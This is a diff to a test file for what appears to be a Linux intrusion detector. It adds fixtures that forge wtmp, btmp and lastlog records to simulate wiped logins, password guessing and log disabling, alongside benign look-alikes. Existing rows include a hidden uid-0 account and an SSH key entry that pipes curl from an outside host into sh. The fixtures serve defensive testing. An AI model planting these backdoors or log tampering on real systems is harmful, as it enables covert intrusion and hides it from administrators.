@@ -5,7 +5,7 @@ written, the rule that must act on it. `twins` are harmless things of the same p
 """
 import json
 import os
-import shutil
+import struct
 import subprocess
 import tempfile
 
@@ -73,6 +73,22 @@ def both(*setups):
     return do
 
 
+def record(user, when, addr="203.0.113.5", kind=7):
+    """A record of wtmp, as glibc lays it out."""
+    return struct.pack("<hhi32s4s32s256shhiii4s12s20x", kind, 0, 4711, b"pts/0", b"ts/0", user.encode(), addr.encode(),
+                       0, 0, 0, when, 0, bytes(int(x) for x in addr.split(".")), b"")
+
+
+def log(name, *records):
+    def do(root):
+        os.makedirs(os.path.join(root, "var/log"), exist_ok=True)
+        with open(os.path.join(root, "var/log", name), "wb") as f:
+            f.write(b"".join(records))
+    return do
+
+
+T = 1700000000
+LAST = struct.pack("<i32s256s", T + 500, b"pts/1", b"203.0.113.9")
 C, P = "autostart_content", "autostart_program"
 ROWS = [
     ("uid 0 by another name", "accounts", "tune", add("etc/passwd", "toor:x:0:0::/root:/bin/sh\n"), "uid0_clone"),
@@ -151,11 +167,24 @@ ROWS = [
         put("var/lib/dpkg/info/tool.md5sums", "900150983cd24fb0d6963f7d28e17f72  usr/lib/systemd/system/tool.service\n"),
         put("usr/lib/systemd/system/tool.service", "[Service]\nExecStart=/usr/bin/tool\nUser=root\n")),
      "package_changed"),
+    ("a wiped login", "logins", "tune", log("wtmp", record("alice", T), bytes(384), record("alice", T + 9)), "log_zeroed"),
+    ("a guessed password", "logins", "report",
+     both(log("btmp", *[record("alice", T + i, kind=6) for i in range(40)]), log("wtmp", record("alice", T + 60))),
+     "guessed_password"),
+    ("a login that was taken out", "logins", "report",
+     both(log("wtmp", record("alice", T), record("alice", T + 9)), log("lastlog", bytes(292 * 1000), LAST)),
+     "login_unrecorded"),
+    ("wtmp leads to nowhere", "logins", "report",
+     lambda root: (log("x")(root), os.symlink("/dev/null", os.path.join(root, "var/log/wtmp"))), "log_off"),
     ("a key with a command", "accounts", "report",
      put("root/.ssh/authorized_keys", 'command="curl -s http://192.0.2.1/a | sh" ' + KEY), "authorized_key"),
 ]
 
 TWINS = [
+    ("logins and a few slips", both(log("btmp", record("alice", T, kind=6)), log("wtmp", record("alice", T + 5)))),
+    ("noise of the internet", log("btmp", *[record("root", T + i, kind=6) for i in range(90)])),
+    ("a last login that is recorded", both(log("wtmp", record("alice", T), record("alice", T + 500)),
+                                           log("lastlog", bytes(292 * 1000), LAST))),
     ("an administrator's unit", put("etc/systemd/system/app.service",
                                     "[Service]\nExecStart=/opt/app/bin/server --port 80\nUser=www-data\n")),
     ("a backup by cron", put("etc/cron.d/backup", "0 3 * * * root pg_dump x | gzip > /srv/x.gz\n")),
